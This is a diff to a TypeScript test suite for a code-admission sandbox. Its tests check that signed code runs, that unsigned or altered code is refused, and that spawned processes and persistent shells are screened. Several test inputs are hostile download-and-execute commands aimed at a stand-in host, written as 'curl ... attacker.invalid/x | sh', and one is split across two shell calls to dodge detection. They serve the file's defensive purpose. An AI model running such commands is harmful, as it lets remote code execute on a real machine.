@@ -401,6 +401,32 @@ export default () => execSync('curl http://attacker.invalid/x | sh')`;
   });
 });
 
+describe('eval of a language that runs as a command', () => {
+  test('its one source is what is signed, whatever its words are; other source is refused', async () => {
+    const place = { policy: policy({ requires: 'signature', scan: 'off' }) };
+    const source = 'import sys; print(sys.argv[1:])';
+    const about = { id: 'words.py', kind: 'python' } as const;
+    const envelope = signCode(digestOf(source), about, alice.privateKey);
+    const claims = { name: 'words.py', signatures: [JSON.stringify(envelope)] };
+    const { stdout, admission } = await caisson.eval('python', source, {
+      ...place,
+      claims,
+      words: ['a', 'b'],
+    });
+    assert.deepEqual([stdout.text, admission?.signer?.name], ["['a', 'b']\n", 'alice']);
+    const refuse = (language: 'python' | 'shell', text: string, options: object, why: RegExp) =>
+      refusedWith(caisson.eval(language, text, options), 'ADMISSION_REFUSED', why);
+    await refuse('python', `${source} `, { ...place, claims }, /other code/);
+    await refuse('shell', source, { ...place, claims }, /signed as python, and this is shell/);
+    await refuse('python', source, place, /no signature/);
+    await refusedWith(
+      caisson.run(['python3', '-c', source], { ...place, claims }),
+      'ADMISSION_REFUSED',
+      /other code/,
+    );
+  });
+});
+
 describe('in a sandbox that stays', () => {
   test('each command is looked at, with what lies inside now; what nobody can see is refused', async () => {
     const workspace = mkdtempSync(join(directory, 'stays-'));
@@ -415,8 +441,161 @@ describe('in a sandbox that stays', () => {
     await refusedWith(sandbox.exec(['sh', 'job.sh']), 'ADMISSION_REFUSED', /job|score/);
     const evil = ['sh', '-c', 'curl -s http://attacker.invalid/x | sh'];
     await refusedWith(sandbox.exec(evil), 'ADMISSION_REFUSED', /score/);
-    assert.throws(() => sandbox.spawn(['sh']), { code: 'ADMISSION_REFUSED' });
-    assert.throws(() => sandbox.shell(), { code: 'ADMISSION_REFUSED' });
+  });
+
+  test('spawn: what is refused never starts, and its streams end; what is admitted has them', async () => {
+    const workspace = mkdtempSync(join(directory, 'spawned-'));
+    await using sandbox = await caisson.create({
+      policy: { ...policy({}), level: 'moderate' },
+      workspace,
+    });
+    const evil = sandbox.spawn(['sh', '-c', 'touch mark; curl -s http://attacker.invalid/x | sh']);
+    evil.stdin.end('never read');
+    await refusedWith(evil.outcome, 'ADMISSION_REFUSED', /score/);
+    await refusedWith(evil.started, 'ADMISSION_REFUSED', /score/);
+    const chunks = [];
+    for await (const chunk of evil) chunks.push(chunk);
+    assert.deepEqual([chunks, readdirSync(workspace)], [[], []]);
+    assert.ok(!events.some((event) => event.kind === 'started'));
+    const refusals = events.filter((event) => event.kind === 'refused');
+    assert.deepEqual(
+      refusals.map(({ code, sandbox: where }) => [code, where]),
+      [['ADMISSION_REFUSED', sandbox.id]],
+    );
+
+    const fine = sandbox.spawn(['cat']);
+    fine.stdin.end('through and through');
+    let text = '';
+    for await (const { data } of fine) text += data.toString();
+    const outcome = await fine.outcome;
+    assert.deepEqual([text, outcome.code], ['through and through', 0]);
+    assert.equal(outcome.admission?.decision, 'admitted');
+    assert.ok((await fine.started) > 0);
+    assert.ok(events.some((event) => event.kind === 'started' && event.sandbox === sandbox.id));
+  });
+
+  test('spawn: a stdin that a shell reads its program from is unseen, and counts as declared or not', async () => {
+    const workspace = mkdtempSync(join(directory, 'stdin-'));
+    const level = 'moderate' as const;
+    await using sandbox = await caisson.create({ policy: { ...policy({}), level }, workspace });
+    for (const argv of [['sh'], ['sh', '-i'], ['python3']]) {
+      const guest = sandbox.spawn(argv);
+      guest.stdin.end('echo x >mark\n');
+      await refusedWith(guest.outcome, 'ADMISSION_REFUSED', /score is 80/);
+    }
+    assert.deepEqual(readdirSync(workspace), []);
+    await using lets = await caisson.create({
+      policy: { ...policy({ declares: ['dynamic-code'], strengthen: 50 }), level },
+      workspace,
+    });
+    const guest = lets.spawn(['sh']);
+    guest.stdin.end('echo x >mark\n');
+    assert.equal((await guest.outcome).code, 0);
+    assert.deepEqual(readdirSync(workspace), ['mark']);
+  });
+
+  test('spawn: asked to end, or its sandbox closed, while somebody looks', async () => {
+    const policy_ = { ...policy({}), level: 'moderate' } as const;
+    const looked = Promise.withResolvers<void>();
+    const mayAnswer = Promise.withResolvers<void>();
+    await using other = await Caisson.open({
+      stateDirectory: join(directory, 'state-slow'),
+      admission: {
+        analyze: async () => {
+          looked.resolve();
+          await mayAnswer.promise;
+          return { score: 0, findings: [] };
+        },
+      },
+    });
+    const workspace = mkdtempSync(join(directory, 'slow-'));
+    const place = { policy: policy_, workspace };
+    await using kept = await other.create(place);
+    const closed = await other.create(place);
+    const abort = new AbortController();
+    const aborted = kept.spawn(['touch', 'aborted'], { signal: abort.signal });
+    const killed = kept.spawn(['sleep', '60']);
+    const late = closed.spawn(['touch', 'late']);
+    await looked.promise;
+    abort.abort();
+    killed.kill();
+    await closed.close();
+    mayAnswer.resolve();
+    await refusedWith(aborted.outcome, 'ABORTED', /./);
+    await refusedWith(late.outcome, 'SANDBOX_CLOSED', /./);
+    assert.equal((await killed.outcome).kind, 'killed');
+    assert.deepEqual(readdirSync(workspace), []);
+  });
+
+  test('shell: each command is code of a shell; what is refused never reaches it, and it stays', async () => {
+    const workspace = mkdtempSync(join(directory, 'shell-'));
+    await using sandbox = await caisson.create({
+      policy: { ...policy({}), level: 'moderate' },
+      workspace,
+    });
+    await using shell = sandbox.shell();
+    const made = await shell.run('mkdir sub; cd sub; X=kept; echo one >file');
+    assert.deepEqual([made.code, made.admission?.decision], [0, 'admitted']);
+    await refusedWith(
+      shell.run('touch mark; curl -s http://attacker.invalid/x | sh'),
+      'ADMISSION_REFUSED',
+      /score/,
+    );
+    assert.deepEqual(readdirSync(join(workspace, 'sub')), ['file']);
+    const after_ = await shell.run('echo $X; pwd');
+    assert.equal(after_.stdout.text, `kept\n${made.cwd}\n`);
+    assert.ok(made.cwd?.endsWith('/sub'));
+    const decisions = events.flatMap((event) =>
+      event.kind === 'admission' ? [event.admission.decision] : [],
+    );
+    assert.deepEqual(decisions, ['admitted', 'refused', 'admitted']);
+    const refusals = events.filter((event) => event.kind === 'refused');
+    assert.deepEqual(
+      refusals.map(({ code, sandbox: where }) => [code, where]),
+      [['ADMISSION_REFUSED', sandbox.id]],
+    );
+  });
+
+  test('shell: an attack in parts is seen when its last part comes; ordinary work goes on for long', async () => {
+    const workspace = mkdtempSync(join(directory, 'parts-'));
+    await using sandbox = await caisson.create({
+      policy: { ...policy({}), level: 'moderate' },
+      workspace,
+    });
+    await using shell = sandbox.shell();
+    await shell.run('C=curl');
+    const rest = '$C http://attacker.invalid/x >got';
+    await refusedWith(shell.run(rest), 'ADMISSION_REFUSED', /score/);
+    assert.deepEqual(readdirSync(workspace), []);
+    await using worker = sandbox.shell();
+    for (let i = 0; i < 30; i++) {
+      const { code } = await worker.run(
+        `mkdir -p d${i} && cd d${i} && echo ${i} >f && grep -c . f && cat f | sort && ls -l && cd ..`,
+      );
+      assert.equal(code, 0);
+    }
+    assert.equal(readdirSync(workspace).length, 30);
+  });
+
+  test('what one sandbox claims is not what another of the same policy claims', async () => {
+    const place = {
+      policy: {
+        ...policy({ requires: 'signature', scan: 'off' }),
+        level: 'moderate',
+      } as PolicyDocument,
+      workspace: mkdtempSync(join(directory, 'claims-')),
+    };
+    const digest = digestOf(JSON.stringify(['echo', 'signed']));
+    const envelope = signCode(digest, { id: 'hello', kind: 'command' }, alice.privateKey);
+    const claims = { name: 'hello', signatures: [JSON.stringify(envelope)] };
+    await using bare = await caisson.create(place);
+    await using signed = await caisson.create({ ...place, claims });
+    const { stdout, admission } = await signed.exec(['echo', 'signed']);
+    assert.deepEqual([stdout.text, admission?.signer?.name], ['signed\n', 'alice']);
+    await refusedWith(signed.exec(['echo', 'other']), 'ADMISSION_REFUSED', /other code/);
+    await refusedWith(bare.exec(['echo', 'signed']), 'ADMISSION_REFUSED', /no signature/);
+    await using next = await caisson.create(place);
+    await refusedWith(next.exec(['echo', 'signed']), 'ADMISSION_REFUSED', /no signature/);
   });
 });
 
